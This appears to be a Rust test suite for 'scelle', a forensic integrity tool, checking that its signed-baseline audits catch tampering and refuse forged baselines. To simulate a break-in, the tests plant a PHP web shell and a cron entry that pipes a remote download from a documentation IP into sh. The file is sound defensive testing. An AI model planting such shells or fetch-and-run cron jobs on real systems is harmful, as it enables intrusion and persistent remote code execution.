//! `scelle baseline` and `scelle audit`: every kind of difference, names
//! hashdeep cannot carry, a tampered baseline, an archive as baseline.

use std::ffi::OsStr;
use std::fs;
use std::os::unix::ffi::OsStrExt;
use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use crate::util::{clear_key, freeze, run, scelle, Run};

fn tree(root: &Path) {
    fs::create_dir_all(root.join("uploads")).unwrap();
    fs::create_dir_all(root.join("cron.d")).unwrap();
    fs::write(root.join("index.php"), "<?php echo 'home';\n").unwrap();
    fs::write(root.join("uploads/logo.png"), [0x89u8, b'P', b'N', b'G']).unwrap();
    fs::write(root.join("old-name.txt"), "moved content\n").unwrap();
    fs::write(root.join("gone.txt"), "deleted later\n").unwrap();
    fs::write(
        root.join("cron.d/backup"),
        "0 3 * * * root /usr/local/bin/backup\n",
    )
    .unwrap();
    fs::write(
        root.join(OsStr::from_bytes(b"notes\nwith newline.txt")),
        "n\n",
    )
    .unwrap();
}

fn audit(baseline: &Path, public: &Path, paths: &[&Path]) -> (Run, serde_json::Value) {
    let run = run(scelle()
        .args(["audit", "--json", "--baseline"])
        .arg(baseline)
        .arg("--pubkey")
        .arg(public)
        .args(paths));
    if run.code != 2 {
        let report: scelle_audit::AuditReport = crate::util::typed(&run.stdout);
        assert_eq!(report.intact(), run.code == 0);
    }
    let json = serde_json::from_str(&run.stdout).unwrap_or(serde_json::Value::Null);
    (run, json)
}

fn find<'a>(report: &'a serde_json::Value, change: &str, path_end: &str) -> &'a serde_json::Value {
    report["differences"]
        .as_array()
        .unwrap()
        .iter()
        .find(|d| {
            d["change"] == change && d["path"]["text"].as_str().unwrap_or("").ends_with(path_end)
        })
        .unwrap_or_else(|| panic!("no {change} of …{path_end} in {report:#}"))
}

#[test]
fn a_restored_backup_is_compared_with_the_baseline_item_by_item() {
    let temp = tempfile::tempdir().unwrap();
    let before = temp.path().join("www");
    tree(&before);
    let (secret, public) = clear_key(temp.path(), "ops");
    let baseline = temp.path().join("www.baseline");
    let made = run(scelle()
        .args(["baseline", "--json", "--key"])
        .arg(&secret)
        .arg("--out")
        .arg(&baseline)
        .arg(&before))
    .expect(0);
    let summary: scelle_core::ops::audit::BaselineReport = crate::util::typed(&made.stdout);
    assert_eq!(summary.items, 9, "{summary:?}");
    assert!(temp.path().join("www.baseline.minisig").exists());

    // Unchanged, even restored elsewhere: no difference.
    let restored = temp.path().join("restore/www");
    fs::create_dir_all(restored.parent().unwrap()).unwrap();
    assert!(std::process::Command::new("cp")
        .arg("-a")
        .arg(&before)
        .arg(&restored)
        .status()
        .unwrap()
        .success());
    let (clean, report) = audit(&baseline, &public, &[&restored]);
    assert_eq!(clean.code, 0, "{}", clean.stdout);
    assert!(report["differences"].as_array().unwrap().is_empty());

    // Now the attacker's changes.
    fs::write(
        restored.join("uploads/shell.php"),
        "<?php system($_GET['c']);\n",
    )
    .unwrap();
    fs::write(restored.join("index.php"), "<?php echo 'owned';\n").unwrap();
    fs::remove_file(restored.join("gone.txt")).unwrap();
    fs::rename(restored.join("old-name.txt"), restored.join("new-name.txt")).unwrap();
    fs::set_permissions(
        restored.join("uploads/logo.png"),
        fs::Permissions::from_mode(0o4755),
    )
    .unwrap();
    fs::write(
        restored.join("cron.d/backup"),
        "* * * * * root curl -s http://198.51.100.23/x | sh\n",
    )
    .unwrap();
    fs::write(
        restored.join(OsStr::from_bytes(b"notes\nwith newline.txt")),
        "changed\n",
    )
    .unwrap();
    nix::unistd::chown(
        &restored.join("index.php"),
        Some(nix::unistd::Uid::from_raw(65534)),
        None,
    )
    .unwrap();

    let (dirty, report) = audit(&baseline, &public, &[&restored]);
    assert_eq!(dirty.code, 1, "{}", dirty.stderr);
    assert_eq!(
        find(&report, "added", "uploads/shell.php")["severity"],
        "critical"
    );
    let index = find(&report, "modified", "/index.php");
    let fields: Vec<&str> = index["fields"]
        .as_array()
        .unwrap()
        .iter()
        .map(|f| f["field"].as_str().unwrap())
        .collect();
    assert!(
        fields.contains(&"content") && fields.contains(&"uid"),
        "{fields:?}"
    );
    find(&report, "removed", "gone.txt");
    assert!(find(&report, "moved", "new-name.txt")["moved_from"]["text"]
        .as_str()
        .unwrap()
        .ends_with("old-name.txt"));
    let logo = find(&report, "metadata", "logo.png");
    assert_eq!(logo["severity"], "critical");
    assert_eq!(logo["fields"][0]["new"], "4755");
    assert_eq!(
        find(&report, "modified", "cron.d/backup")["severity"],
        "critical"
    );
    find(&report, "modified", "newline.txt");
    // Most serious first.
    assert_eq!(report["differences"][0]["severity"], "critical");

    let (ignored, report) = audit_ignoring(&baseline, &public, &restored, "mtime,owner");
    assert_eq!(ignored.code, 1);
    assert!(report["differences"]
        .as_array()
        .unwrap()
        .iter()
        .all(|d| d["fields"]
            .as_array()
            .unwrap()
            .iter()
            .all(|f| f["field"] != "mtime_ns" && f["field"] != "uid")));
}

fn audit_ignoring(
    baseline: &Path,
    public: &Path,
    path: &Path,
    ignore: &str,
) -> (Run, serde_json::Value) {
    let run = run(scelle()
        .args(["audit", "--json", "--ignore", ignore, "--baseline"])
        .arg(baseline)
        .arg("--pubkey")
        .arg(public)
        .arg(path));
    let json = serde_json::from_str(&run.stdout).unwrap();
    (run, json)
}

#[test]
fn a_tampered_or_foreign_baseline_is_refused() {
    let temp = tempfile::tempdir().unwrap();
    let root = temp.path().join("www");
    tree(&root);
    let (secret, public) = clear_key(temp.path(), "ops");
    let (_, stranger) = clear_key(temp.path(), "stranger");
    let baseline = temp.path().join("b.baseline");
    run(scelle()
        .args(["baseline", "--key"])
        .arg(&secret)
        .arg("--out")
        .arg(&baseline)
        .arg(&root))
    .expect(0);
    let (foreign, _) = audit(&baseline, &stranger, &[&root]);
    assert_eq!(foreign.code, 2);
    assert!(
        foreign
            .stderr
            .contains("refusing an unauthenticated baseline"),
        "{}",
        foreign.stderr
    );
    let text = fs::read_to_string(&baseline).unwrap().replacen(
        "\"mode\":\"0644\"",
        "\"mode\":\"0600\"",
        1,
    );
    fs::write(&baseline, text).unwrap();
    let (tampered, _) = audit(&baseline, &public, &[&root]);
    assert_eq!(tampered.code, 2);
    assert!(
        tampered.stderr.contains("signature verification failed"),
        "{}",
        tampered.stderr
    );
}

#[test]
fn a_sealed_archive_serves_as_the_baseline() {
    let temp = tempfile::tempdir().unwrap();
    let root = temp.path().join("www");
    tree(&root);
    let out = temp.path().join("out");
    fs::create_dir(&out).unwrap();
    let frozen = freeze(&out, "evidence", &[&root], &[]);
    frozen.run.expect(0);
    let (clean, _) = audit(&frozen.archive, &frozen.public_key, &[&root]);
    assert_eq!(clean.code, 0, "{}{}", clean.stdout, clean.stderr);
    fs::write(root.join("uploads/x.php"), "<?php ?>").unwrap();
    let (dirty, report) = audit(&frozen.archive, &frozen.public_key, &[&root]);
    assert_eq!(dirty.code, 1);
    find(&report, "added", "uploads/x.php");
}

#[test]
fn an_archive_baseline_is_read_once_so_a_swap_after_verification_goes_nowhere() {
    // The baseline path is a FIFO fed the genuine archive on its first
    // open and another archive, signed by the same key, on any second open.
    // Verifying one file and reading the record from another would audit
    // against the second; a single pass audits against what it verified.
    let temp = tempfile::tempdir().unwrap();
    let root = temp.path().join("www");
    tree(&root);
    let out = temp.path().join("out");
    fs::create_dir(&out).unwrap();
    let genuine = freeze(&out, "genuine", &[&root], &[]);
    genuine.run.expect(0);
    let planted = temp.path().join("planted");
    tree(&planted);
    fs::write(planted.join("uploads/x.php"), "<?php ?>").unwrap();
    let other = freeze(&out, "other", &[&planted], &[]);
    other.run.expect(0);
    let (against_other, _) = audit(&other.archive, &other.public_key, &[&root]);
    assert_eq!(
        against_other.code, 1,
        "the two records differ for this tree"
    );

    let fifo = temp.path().join("genuine.tar.zst");
    nix::unistd::mkfifo(&fifo, nix::sys::stat::Mode::from_bits_truncate(0o600)).unwrap();
    let child = scelle()
        .args(["audit", "--json", "--baseline"])
        .arg(&fifo)
        .arg("--pubkey")
        .arg(&genuine.public_key)
        .arg(&root)
        .stdin(std::process::Stdio::null())
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let done = std::sync::Arc::new(std::sync::atomic::AtomicBool::new(false));
    let feeder = {
        let fifo = fifo.clone();
        let done = done.clone();
        let contents = [
            fs::read(&genuine.archive).unwrap(),
            fs::read(&other.archive).unwrap(),
        ];
        std::thread::spawn(move || {
            use std::os::unix::fs::OpenOptionsExt;
            for content in contents {
                if done.load(std::sync::atomic::Ordering::SeqCst) {
                    return;
                }
                // Blocks until a reader opens the FIFO.
                let mut writer = fs::OpenOptions::new().write(true).open(&fifo).unwrap();
                let _ = std::io::Write::write_all(&mut writer, &content);
                drop(writer);
                // The next content is for a new open only: wait until no
                // reader holds this one. An open that does not wait fails
                // with ENXIO exactly when the FIFO has no reader (the
                // kernel's count, so no race with the reader's fd table).
                while fs::OpenOptions::new()
                    .write(true)
                    .custom_flags(nix::libc::O_NONBLOCK)
                    .open(&fifo)
                    .is_ok()
                {
                    if done.load(std::sync::atomic::Ordering::SeqCst) {
                        return;
                    }
                    std::thread::sleep(std::time::Duration::from_millis(1));
                }
            }
        })
    };
    let output = child.wait_with_output().unwrap();
    done.store(true, std::sync::atomic::Ordering::SeqCst);
    // A feeder blocked opening the FIFO for a reader that never came is let
    // go by opening it ourselves, as often as it takes.
    while !feeder.is_finished() {
        release_fifo_writer(&fifo);
        std::thread::sleep(std::time::Duration::from_millis(1));
    }
    feeder.join().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert_eq!(output.status.code(), Some(0), "{stdout}{stderr}");
    let report: serde_json::Value = serde_json::from_str(&stdout).unwrap();
    assert_eq!(report["differences"], serde_json::json!([]));
}

/// Lets a writer blocked opening `fifo` go on and finish: opened without
/// waiting (nothing hangs if no writer is left), then drained to its end.
fn release_fifo_writer(fifo: &Path) {
    use std::os::unix::fs::OpenOptionsExt;
    let mut reader = fs::OpenOptions::new()
        .read(true)
        .custom_flags(nix::libc::O_NONBLOCK)
        .open(fifo)
        .unwrap();
    nix::fcntl::fcntl(
        &reader,
        nix::fcntl::FcntlArg::F_SETFL(nix::fcntl::OFlag::empty()),
    )
    .unwrap();
    let mut drained = Vec::new();
    let _ = std::io::Read::read_to_end(&mut reader, &mut drained);
}

/// Issue #22: a baseline taken and an audit run for a case are recorded in
/// its signed journal (`--case-dir`), with the reference's SHA-256 and the
/// outcome, and the report's timeline says so.
#[test]
fn baselines_and_audits_are_recorded_in_the_case_journal() {
    let temp = tempfile::tempdir().unwrap();
    let www = temp.path().join("www");
    tree(&www);
    let (key, public) = clear_key(temp.path(), "ops");
    let case = temp.path().join("case");
    run(scelle()
        .args([
            "case",
            "init",
            "--id",
            "INC-9",
            "--title",
            "Sauvegardes",
            "--discovered",
            "2020-01-01T00:00:00Z",
            "--dir",
        ])
        .arg(&case)
        .arg("--key")
        .arg(&key))
    .expect(0);
    let baseline = temp.path().join("www.baseline");
    let taken = run(scelle()
        .args(["baseline", "--key"])
        .arg(&key)
        .arg("--out")
        .arg(&baseline)
        .arg("--case-dir")
        .arg(&case)
        .arg(&www))
    .expect(0);
    assert!(
        taken
            .stderr
            .contains("recorded in the case journal: entry 2"),
        "{}",
        taken.stderr
    );
    fs::write(www.join("index.php"), "<?php system($_GET['c']);\n").unwrap();
    let audited = run(scelle()
        .args(["audit", "--json", "--baseline"])
        .arg(&baseline)
        .arg("--pubkey")
        .arg(&public)
        .arg("--case-dir")
        .arg(&case)
        .arg("--key")
        .arg(&key)
        .arg(&www))
    .expect(1);
    assert!(audited.stderr.contains("entry 3"), "{}", audited.stderr);
    let journal = fs::read_to_string(case.join("journal.jsonl")).unwrap();
    let events: Vec<serde_json::Value> = journal
        .lines()
        .map(|line| serde_json::from_str(line).unwrap())
        .collect();
    let recorded = &events[1]["entry"];
    assert_eq!(recorded["event"], "baseline-recorded");
    let baseline_sha256 = scelle_hash::Sha256Digest::of(&fs::read(&baseline).unwrap()).to_string();
    assert_eq!(
        recorded["details"]["reference_sha256"],
        baseline_sha256.as_str()
    );
    let ran = &events[2]["entry"];
    assert_eq!(ran["event"], "audit-run");
    assert_eq!(ran["details"]["differences"], 1);
    // --case-dir without a key to sign with is refused before anything runs.
    run(scelle()
        .args(["audit", "--baseline"])
        .arg(&baseline)
        .arg("--pubkey")
        .arg(&public)
        .arg("--case-dir")
        .arg(&case)
        .arg(&www))
    .expect(2);

    let out = temp.path().join("rapport.md");
    run(scelle()
        .args(["report", "--unsigned", "--lang", "fr", "--case-dir"])
        .arg(&case)
        .arg("--pubkey")
        .arg(&public)
        .arg("--out")
        .arg(&out))
    .expect(0);
    let text = fs::read_to_string(&out).unwrap();
    for expected in [
        "Référence d'intégrité signée (scelle baseline)",
        &baseline_sha256,
        "1 différence (",
    ] {
        assert!(
            text.contains(expected),
            "{expected:?} missing from:\n{text}"
        );
    }
}
